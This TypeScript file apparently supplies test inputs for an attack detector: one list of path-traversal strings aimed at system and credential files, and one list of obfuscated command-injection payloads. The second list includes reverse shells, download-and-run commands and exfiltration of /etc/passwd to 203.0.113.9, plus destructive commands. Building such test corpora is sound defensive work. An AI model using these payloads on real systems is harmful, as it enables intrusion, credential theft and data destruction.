import { values } from '../benign/values.ts';

/** Attacks on files and shells that no list of the corpora has: written by us before a rule was looked at. */
export const machines: Readonly<Record<string, readonly string[]>> = {
  traversal: values`
..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts
\\203.0.113.9\pub\payload.dll
\\?\C:\Windows\win.ini
\\.\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM
C:/Windows/System32/inetsrv/config/applicationHost.config
C:\inetpub\wwwroot\web.config
c:\users\administrator\ntuser.dat
..;/..;/manager/text/list
/..;/..;/WEB-INF/web.xml
..%c0%af..%c0%afetc%c0%afshadow
..%252f..%252f..%252fproc/self/environ
%2e%2e%2f%2e%2e%2f%2e%2e%2fboot.ini
..%u2215..%u2215etc%u2215passwd
..%ef%bc%8f..%ef%bc%8fetc/passwd
....\/....\/....\/etc/group
.%2e/.%2e/.%2e/etc/issue
..//..//..//..//etc/hostname
..\..\..\..\..\boot.ini%00.png
php://filter/read=convert.base64-encode/resource=../config/db
php://filter/zlib.deflate/convert.base64-encode/resource=index
php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp
php://input
php://fd/7
data:text/plain,<?php phpinfo();?>
zip://uploads/a.jpg%23shell
phar://./uploads/a.gif/x
compress.zlib://../../etc/hosts
glob:///etc/*
expect://id
file:///etc/ssh/sshd_config
file://localhost/c:/windows/win.ini
jar:file:///srv/app.jar!/application.properties
netdoc:///etc/hosts
/proc/self/cwd/../.env
/proc/1/cgroup
/proc/self/fd/9
/var/log/apache2/access.log
/root/.ssh/id_ed25519
~/.aws/credentials
/home/ubuntu/.bash_history
../../.git/HEAD
.git/config
../.svn/entries
../../../app/config/parameters.yml
../../WEB-INF/classes/application.yml
../wp-config.php.bak
../../../../usr/local/etc/php.ini
/etc/nginx/sites-enabled/default
/run/secrets/kubernetes.io/serviceaccount/token
/var/lib/mysql/mysql/user.MYD
..%00/..%00/etc/passwd
%252e%252e%252fetc%252fpasswd
..\/..\/..\/etc\/passwd
/static/../../../../../etc/passwd
images/../../../../windows/system.ini
file.txt/../../../../etc/shadow
/%5C../%5C../%5C../etc/passwd
..%01/..%01/etc/passwd
////../../../../etc/passwd
..0x2f..0x2f..0x2fetc0x2fpasswd
..\..\..\windows\win.ini
/var/www/../../etc/passwd
....//....//....//proc/version
%5c%5c203.0.113.9%5cc$
..%255c..%255cboot.ini
file:////203.0.113.9/etc/passwd
/etc/./passwd
/etc//shadow
C:\Users\Public\..\..\Windows\System32\config\SYSTEM
..%ef%bc%8fetc%ef%bc%8fpasswd
?file=../../../../app/.env.production
/proc/self/maps
../../../../../../../../root/.bashrc
/opt/app/config/master.key
..%09/..%09/etc/passwd
php://filter/convert.base64-encode/resource=/etc/passwd
/usr/share/tomcat9/conf/tomcat-users.xml
..\\..\\..\\etc\\passwd
%2e%2e/%2e%2e/%2e%2e/etc/hosts
/home/app/.ssh/id_rsa
`,
  rce: values`
;{cat,/etc/passwd}
|{curl,-s,203.0.113.9/a}
;cat\${IFS%%?}/etc/passwd
;cat\${IFS}/etc/shadow
\`tr a-z A-Z<<<id\`
$(rev<<<'dwssap/cte/ tac')
bash<<<'id'
;w'h'o'am'i
;/???/c?t /etc/passwd
|/u?r/b?n/i?
;$(printf '\x69\x64')
;a=i;b=d;$a$b
x;eval "$(echo aWQ=|base64 -d)"
||python3 -c 'import os;os.system("id")'
& ping -n 11 127.0.0.1 &
|dir c:\
&&type c:\windows\win.ini
127.0.0.1&ipconfig /all
p^o^w^e^r^s^h^e^l^l -c calc
cmd.exe /c "net user eve P4ss /add"
c^md /c who^ami
| powershell -nop -w hidden -enc SQBFAFgA
powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')
;Invoke-Expression (iwr http://203.0.113.9/a.ps1)
& certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe
%0aid%0a
%0a/usr/bin/id
%26%26whoami
foo|id
foo\`id\`
foo$(id)
$(sleep 9)
\`sleep 9\`
;sleep 9;
|| sleep 9 ||
;nc -e /bin/sh 203.0.113.9 4444
;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
;exec 5<>/dev/tcp/203.0.113.9/4444;cat <&5|sh
;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 9 >/tmp/f
;perl -e 'exec "/bin/sh"'
;ruby -rsocket -e 'exit if fork'
;php -r '$s=fsockopen("203.0.113.9",9);'
;awk 'BEGIN{system("id")}'
;find . -exec id \;
;xargs -I{} sh -c {}
;env x='() { :;}; id' bash
() { :; }; /bin/cat /etc/passwd
;echo \`whoami\`.x.example|xargs nslookup
;curl http://203.0.113.9/\`hostname\`
;wget -qO- 203.0.113.9|sh
a.png;touch /srv/www/x
file.pdf"; ls -la #
'; uname -a; echo '
"&&lsb_release -a&&"
;busybox nc 203.0.113.9 9 -e sh
;docker run -v /:/m alpine cat /m/etc/shadow
;crontab -r
;tail -f /var/log/auth.log
;mail -s x eve@example.org < /etc/passwd
;kill -9 -1
;history|tail
;cp /etc/passwd /srv/www/p.txt
;printenv
;set
;node -e 'require("child_process").exec("id")'
require('child_process').execSync('id')
process.mainModule.require('child_process').exec('id')
__import__('os').popen('id').read()
eval(compile('import os','','exec'))
Runtime.getRuntime().exec("id")
system('id');
-x;id
--config=|id
;lsb_release -a
|tee /srv/www/a.php <<< '<?php ?>'
$(</etc/passwd)
;. /tmp/x
;source<(curl 203.0.113.9)
\`wget 203.0.113.9/x -O- | sh\`
& powershell Get-Content C:\secret.txt
|more C:\boot.ini
;at now <<< id
%0acat%20/etc/passwd
;telnet 203.0.113.9 23
a;\${PATH:0:1}bin\${PATH:0:1}id
;i\d
;"i"d
|base64 /etc/passwd
;getent passwd
;ifconfig eth0
&& curl -F f=@/etc/passwd 203.0.113.9
;ssh -o ProxyCommand=';id' x
; python -c "__import__('os').system('id')"
;tar cf - /etc
> /tmp/pwn
$((7*7))
`,
};
